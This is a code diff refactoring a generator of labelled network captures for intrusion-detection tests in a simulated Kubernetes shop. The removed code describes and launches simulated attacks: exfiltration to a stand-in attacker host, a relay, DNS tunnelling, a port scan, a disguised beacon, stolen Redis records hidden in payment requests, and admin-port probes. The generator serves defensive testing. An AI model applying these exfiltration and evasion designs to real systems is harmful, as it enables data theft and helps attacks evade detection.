@@ -9,11 +9,9 @@ its process-group id; every namespace is recorded in STATE/netns.
 """
 
 import argparse
-import datetime
 import gzip
 import json
 import os
-import pickle
 import random
 import re
 import shutil
@@ -22,14 +20,14 @@ import subprocess
 import sys
 import time
 
+import attackplan
+import outputs
+from attackplan import ADMIN_LISTEN, ATTACKER, NODE_GW, PAYMENT, UPSTREAM_DNS
+from outputs import rfc3339
+
 HERE = os.path.dirname(os.path.abspath(__file__))
 SHOP = os.path.join(HERE, "shop.py")
 PY = sys.executable
-
-ATTACKER = "203.0.113.10"
-PAYMENT = "198.51.100.20"
-UPSTREAM_DNS = "198.51.100.53"
-NODE_GW = "10.244.0.1"
 
 # Per scenario: seed (varies the background), capture length, attack (None = benign).
 SCENARIOS = {
@@ -48,12 +46,6 @@ SCENARIOS = {
 }
 
 NEW_SERVICE = "recommender"  # deployed mid-capture in new-service; calls catalogue and user
-# admin-probe: the ports the targets' pods listen on besides their service port (nobody calls
-# them in benign traffic), and the ports tried on each target. (port, kind, path)
-ADMIN_LISTEN = {"catalogue": (9090, "metrics"), "user": (8081, "admin"), "carts": (6060, "pprof")}
-PROBE_PORTS = [(9090, "/metrics"), (8081, "/admin/config"), (6060, "/debug/pprof/goroutine?debug=1")]
-BEACON = {"path": "/cdn-cgi/rum", "host": "static.paygate-cdn.example", "mean": 20.0, "jitter": 0.25,
-          "duration": 270}
 
 SERVICES = [  # name, namespace, port, selector labels
     ("kube-dns", "kube-system", 53, {"k8s-app": "kube-dns"}),
@@ -69,13 +61,6 @@ VUSERS, THINK = 4, 1.8  # load-test virtual users and mean think time
 ALPHABET = "bcdfghjklmnpqrstvwxz2456789"  # Kubernetes' name-suffix alphabet
 
 
-def rfc3339(t):
-    """Epoch seconds (float or int ns) -> RFC 3339 with nanoseconds, UTC."""
-    ns = t if isinstance(t, int) else int(round(t * 1e9))
-    s = datetime.datetime.fromtimestamp(ns // 10**9, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
-    return "%s.%09dZ" % (s, ns % 10**9)
-
-
 def pin_bridge_mac(run, netns, gw):
     """Give br0 a fixed MAC (CNI style: 0a:58 and the gateway's IPv4 address). A bridge whose
     MAC was never set takes the lowest MAC of its ports, so adding a pod could change the
@@ -83,19 +68,6 @@ def pin_bridge_mac(run, netns, gw):
     in the benign and new-service captures before this)."""
     mac = "0a:58:" + ":".join("%02x" % int(x) for x in gw.split("."))
     run.sh("ip", "-n", netns, "link", "set", "br0", "address", mac)
-
-
-def probe_summary(log, t0):
-    """admin-probe ground truth: connections per target port, which answered, each probe's time."""
-    counts = {}
-    for x in log:
-        k = "%s:%d" % (x["ip"], x["port"])
-        c = counts.setdefault(k, {"attempts": 0, "open": x["open"]})
-        c["attempts"] += 1
-    return {"counts": counts, "open": sorted(k for k, c in counts.items() if c["open"]),
-            "connections_per_minute": round(60 * len(log) / max(1e-9, log[-1]["t"] - log[0]["t"]), 2),
-            "probe_log": [{"t_rel": round(x["t"] - t0, 3), "dst": "%s:%d" % (x["ip"], x["port"]), "path": x["path"],
-                           "open": x["open"], "bytes_in": x["bytes_in"]} for x in log]}
 
 
 class Run:
@@ -402,101 +374,7 @@ class Run:
         return [p for p in self.pods.values() if p["owner"] == owner and not p["deleted_ns"]]
 
     def start_attack(self, kind):
-        db = self.pods["shop-db-0"]
-        out = os.path.join(self.state, "attack-%s.json" % kind)
-        lim = 150
-        if kind == "direct_exfil":
-            self.attack = {"type": kind, "path": ["shop-db", "outside"], "pods": [db["name"]], "src_ip": db["ip"],
-                           "dst_ip": ATTACKER, "dst_port": 80,
-                           "protocol": "tcp/http (POST /api/v2/telemetry/upload, keep-alive)",
-                           "target_rate_Bps": 3000, "outs": [out]}
-            self.attack_procs.append(self.shop(db["netns"], "exfil-http", "attack", lim, dst_ip=ATTACKER,
-                                               dst_port=80, rate=3000, period=2.0, duration=60, out=out))
-        elif kind == "multi_hop":
-            relay = self.live("catalogue")[0]
-            rout = os.path.join(self.state, "attack-relay.json")
-            self.attack = {"type": kind, "path": ["shop-db", "catalogue", "outside"],
-                           "pods": [db["name"], relay["name"]], "src_ip": db["ip"], "dst_ip": ATTACKER,
-                           "relay_ip": relay["ip"], "relay_port": 9000, "dst_port": 8443,
-                           "protocol": "tcp stream db->catalogue:9000 (new port), then http POST "
-                                       "catalogue->attacker:8443 /v1/blob (keep-alive)",
-                           "target_rate_Bps": 3000, "outs": [out, rout]}
-            self.attack_procs.append(self.shop(relay["netns"], "relay", "relay", lim, bind=relay["ip"],
-                                               listen_port=9000, dst_ip=ATTACKER, dst_port=8443, period=2.0,
-                                               out=rout))
-            time.sleep(1.0)
-            self.attack_procs.append(self.shop(db["netns"], "exfil-stream", "attack", lim, dst_ip=relay["ip"],
-                                               dst_port=9000, rate=3000, period=0.5, duration=60, out=out))
-        elif kind == "dns_tunnel":
-            dns = self.live("kube-dns")[0]
-            self.attack = {"type": kind, "path": ["shop-db", "kube-dns", "outside"],
-                           "pods": [db["name"], dns["name"]], "src_ip": db["ip"], "dst_ip": ATTACKER,
-                           "resolver_ip": dns["ip"], "dst_port": 53,
-                           "protocol": "udp/dns A queries <seq>.<base32 labels>.t.cdn-sync.net via kube-dns "
-                                       "(forwarded to the attacker's authoritative server)",
-                           "target_rate_Bps": 2500, "outs": [out]}
-            self.attack_procs.append(self.shop(db["netns"], "dns-tunnel", "attack", lim, dns=dns["ip"],
-                                               rate=2500, bytes_per_query=120, label_len=48, duration=60,
-                                               out=out))
-        elif kind == "port_scan":
-            src = self.live("front-end")[0]
-            targets = [db, self.live("catalogue")[0], self.live("user")[0]]
-            self.attack = {"type": kind, "path": ["front-end"], "pods": [src["name"]], "src_ip": src["ip"],
-                           "dst_ip": ",".join(t["ip"] for t in targets), "dst_ips": [t["ip"] for t in targets],
-                           "targets": [t["name"] for t in targets], "dst_ports": "1-1024",
-                           "protocol": "tcp connect scan, ports 1-1024 shuffled per host",
-                           "target_rate_probes_per_s": 51.2, "outs": [out]}
-            self.attack_procs.append(self.shop(src["netns"], "port-scan", "attack", lim,
-                                               hosts=[t["ip"] for t in targets], port_lo=1, port_hi=1024,
-                                               rate=51.2, out=out))
-        elif kind in ("beacon", "stealthy_exfil", "admin_probe"):
-            self.start_attack_issue10(kind, out)
-        self.attack["launched_ns"] = time.time_ns()
-        self.say("attack %s launched" % kind)
-
-    def start_attack_issue10(self, kind, out):
-        """The attacks that stay on pairs, hosts or peers that benign traffic also uses."""
-        orders = self.live("orders")[0]
-        if kind == "beacon":
-            b = BEACON
-            self.attack = {"type": kind, "path": ["orders", "outside"], "pods": [orders["name"]],
-                           "src_ip": orders["ip"], "dst_ip": PAYMENT, "dst_port": 80,
-                           "protocol": "tcp/http POST %s (Host: %s), one short connection per check-in; the same "
-                                       "address and port as the payment API orders calls" % (b["path"], b["host"]),
-                           "http_path": b["path"], "http_host": b["host"], "mean_interval_s": b["mean"],
-                           "jitter": b["jitter"], "outs": [out]}
-            b = dict(b, duration=max(30, min(b["duration"], self.sc["duration"] - (time.time() - self.t0) - 30)))
-            self.attack_procs.append(self.shop(orders["netns"], "beacon", "attack", b["duration"] + 60,
-                                               dst_ip=PAYMENT, dst_port=80, out=out, **b))
-        elif kind == "stealthy_exfil":
-            db = self.pods["shop-db-0"]
-            left = self.sc["duration"] - (time.time() - self.t0) - 20  # shorter only in smoke tests
-            cfg = {"rate": 1500, "period": 3.0, "duration": max(10, min(90, left)), "out": out}
-            self.attack = {"type": kind, "path": ["shop-db", "orders", "outside"],
-                           "pods": [db["name"], orders["name"]], "src_ip": orders["ip"], "dst_ip": PAYMENT,
-                           "dst_port": 80, "db_ip": db["ip"],
-                           "protocol": "redis MGET of user:* over orders' own connections to shop-db:6379, then "
-                                       "the records in a \"metadata\" field of POST /v1/charge to the payment API "
-                                       "(inside real charges, and in extra charges over the same connection pool)",
-                           "target_rate_Bps": cfg["rate"], "outs": [out]}
-            trigger = os.path.join(self.state, "implant.json")
-            with open(trigger + ".tmp", "w") as f:
-                json.dump(cfg, f)
-            os.replace(trigger + ".tmp", trigger)
-        elif kind == "admin_probe":
-            src = self.live("front-end")[0]
-            targets = [self.live(s)[0] for s in ("catalogue", "user", "carts")]
-            plan = [[t["ip"], port, path] for t in targets for port, path in PROBE_PORTS]
-            self.attack = {"type": kind, "path": ["front-end"], "pods": [src["name"]], "src_ip": src["ip"],
-                           "dst_ip": ",".join(t["ip"] for t in targets), "dst_ips": [t["ip"] for t in targets],
-                           "targets": [t["name"] for t in targets], "ports": [p for p, _ in PROBE_PORTS],
-                           "listening": {t["ip"]: ADMIN_LISTEN[t["owner"]][0] for t in targets},
-                           "protocol": "tcp connect to admin/metrics/debug ports of services the front-end calls; "
-                                       "HTTP GET where the port answers; ~6 connections a minute",
-                           "outs": [out]}
-            probes = max(10, min(16, int((self.sc["duration"] - (time.time() - self.t0) - 30) / 10)))
-            self.attack_procs.append(self.shop(src["netns"], "admin-probe", "attack", 260, targets=plan,
-                                               probes=probes, gap=10.0, jitter=0.35, out=out))
+        attackplan.launch(self, kind)
 
     # ------------------------------------------------------------ the run
 
@@ -614,122 +492,11 @@ class Run:
         os.makedirs(self.out, exist_ok=True)
         t0 = self.t0
         self.write_capture()
-
         events = sorted(self.events, key=lambda e: e["ts_ns"])
-        with open(os.path.join(self.out, "entities.jsonl"), "w") as f:
-            for e in events:
-                rec = {"ts": rfc3339(e["ts_ns"])}
-                rec.update({k: e[k] for k in ("op", "kind", "name", "namespace", "ip", "labels", "owner")})
-                f.write(json.dumps(rec) + "\n")
-
-        # MIMIR pickle: key 0 lists everything live at capture start; later keys hold changes,
-        # keyed by whole seconds since capture start (floor, so an add is never late).
-        log = {0: {}}
-        for e in events:
-            rel = e["ts_ns"] / 1e9 - t0
-            key = 0 if rel < 1 else int(rel)
-            labels = ",".join("%s=%s" % kv for kv in e["labels"].items())
-            kind = "svc" if e["kind"] == "service" else "pod"
-            if e["op"] == "add":
-                status = e["ip"] if kind == "svc" else "Running"
-                entry = (e["ip"], "+", e["namespace"], kind, labels, status)
-            else:
-                entry = (e["ip"], "-", e["namespace"], kind, labels, "Terminating")
-            if key == 0 and e["op"] == "delete":
-                log[0].pop(e["name"], None)
-                continue
-            log.setdefault(key, {})[e["name"]] = entry
-        with open(os.path.join(self.out, "cluster_creation_log.pickle"), "wb") as f:
-            pickle.dump(log, f, protocol=0)
-
-        attacks = []
-        if self.sc["attack"]:
-            a = dict(self.attack)
-            meas = []
-            for path in a.pop("outs"):
-                with open(path) as f:
-                    meas.append(json.load(f))
-            m = meas[0]
-            starts = [m["start"]] + [x.get("accepted") for x in meas[1:] if x.get("accepted")]
-            ends = [x["end"] for x in meas]
-            a["start"], a["end"] = min(starts), max(ends)
-            a["bytes"] = m["bytes"]
-            for k in ("requests", "queries", "answered", "probes", "open", "count", "intervals", "bytes_in",
-                      "extra_requests", "piggybacked_requests"):
-                if k in m:
-                    a[k] = m[k]
-            if "times" in m:  # beacon: each check-in's connect time
-                a["times_rel"] = [round(t - t0, 3) for t in m["times"]]
-            if "log" in m:  # admin-probe: every connection and what it got
-                a.update(probe_summary(m["log"], t0))
-            if len(meas) > 1:
-                a["relay"] = {k: meas[1][k] for k in ("bytes_in", "bytes_out", "requests")}
-            launched = a.pop("launched_ns") / 1e9
-            a = {"id": "A1", **a}
-            a["launched_rel"] = round(launched - t0, 3)
-            a["start_rel"] = round(a["start"] - t0, 3)
-            a["end_rel"] = round(a["end"] - t0, 3)
-            a["start_rfc3339"] = rfc3339(a["start"])
-            a["end_rfc3339"] = rfc3339(a["end"])
-            attacks.append(a)
-        gt = {"dataset": "scenarios/" + self.name, "scenario": self.name, "seed": self.seed,
-              "capture_file": "capture.pcapng.gz", "capture_start_epoch": t0, "capture_end_epoch": self.t_end,
-              "benign_only": not attacks, "sensitive_services": ["shop-db"], "attacker_ip": ATTACKER,
-              "attacks": attacks,
-              "changes": self.changes,
-              "notes": "start/end are epoch seconds measured by the attacking process itself (first socket "
-                       "operation / after its sockets are closed; for multi_hop the earliest start and latest "
-                       "end of the sender and the relay); *_rel are seconds since capture_start_epoch. bytes = "
-                       "application payload bytes sent by the source (HTTP bodies / TCP stream / raw data "
-                       "encoded in DNS names; request bodies for beacon; the stolen records inside the metadata fields for "
-                       "stealthy_exfil; the HTTP requests of admin_probe; 0 for a connect scan, which sends no "
-                       "payload). changes: benign changes to the application (new_service: a Service and its "
-                       "Deployment's pods added mid-capture), which are not attacks."}
-        stats = self.capture_stats()
-        pods = {}
-        for p in sorted(self.pods.values(), key=lambda p: p["added_ns"]):
-            d = {"ip": p["ip"], "namespace": p["namespace"], "owner": p["owner"],
-                 "added_rel": round(p["added_ns"] / 1e9 - t0, 3)}
-            if p["deleted_ns"]:
-                d["deleted_rel"] = round(p["deleted_ns"] / 1e9 - t0, 3)
-            pods[p["name"]] = d
-        meta = {
-            "scenario": self.name, "seed": self.seed, "capture_file": "capture.pcapng.gz",
-            "capture_format": "pcapng (gzip)", "capture_tool": "dumpcap (pcapng, nanosecond timestamps)",
-            "capture_interface": "br0 in node netns",
-            "capture_start_epoch": t0, "capture_start_rfc3339": rfc3339(t0),
-            "capture_end_epoch": self.t_end, "duration_s": round(self.t_end - t0, 3),
-            "capture_stats": stats,
-            "ip_plan": {
-                "pod_cidr": "10.244.0.0/24", "gateway_node_bridge": NODE_GW, "service_cidr": "10.96.0.0/16",
-                "node_outside_link": "203.0.113.1/24",
-                "outside": {
-                    ATTACKER: "attacker host (exfil sinks tcp/80, tcp/8443; authoritative DNS for t.cdn-sync.net)",
-                    PAYMENT: "benign external payment API (api.paygate.example, tcp/80)",
-                    UPSTREAM_DNS: "benign upstream DNS resolver used by kube-dns"},
-                "pods": pods,
-                "services": {s: {"cluster_ip": v["cluster_ip"], "namespace": v["namespace"], "port": v["port"]}
-                             for s, v in self.services.items()},
-            },
-            "replicas_initial": {k: REPLICAS[k] for k in ("front-end", "catalogue", "carts", "orders", "user")},
-            "virtual_users": VUSERS,
-            "think_time_mean_s": THINK,
-            "churn": self.churn,
-            "dns": {"server_pod_ip": self.dns_ip, "ttl_cluster_names": 5,
-                    "note": "service names resolve to pod IPs (headless-style A records); clients ask A and "
-                            "AAAA together and cache for the TTL; other names go to 198.51.100.53, "
-                            "t.cdn-sync.net to 203.0.113.10"},
-            "entity_logs": {
-                "cluster_creation_log.pickle": "MIMIR format, pickle protocol 0 as python3 writes it (unicode "
-                                               "V'..' string opcodes; starts with '(dp0'); keys are whole seconds "
-                                               "since capture_start_epoch (floor); load with pickle.load(f)",
-                "entities.jsonl": "one event per line"},
-            "attack": self.sc["attack"] or "none",
-            "change": self.sc.get("change") or "none",
-            "admin_ports": ({s: {"port": p, "kind": k} for s, (p, k) in ADMIN_LISTEN.items()}
-                            if self.sc["attack"] == "admin_probe" else {}),
-            "generator": "testdata/scenarios/gen/generate.sh %s" % self.name,
-        }
+        outputs.write_entities(self, events)
+        outputs.write_pickle(self, events, t0)
+        gt = outputs.ground_truth(self, outputs.attack_truth(self, t0), t0)
+        meta = outputs.metadata(self, t0, REPLICAS, VUSERS, THINK)
         self.adjust_outputs(gt, meta)
         with open(os.path.join(self.out, "ground_truth.json"), "w") as f:
             json.dump(gt, f, indent=1)
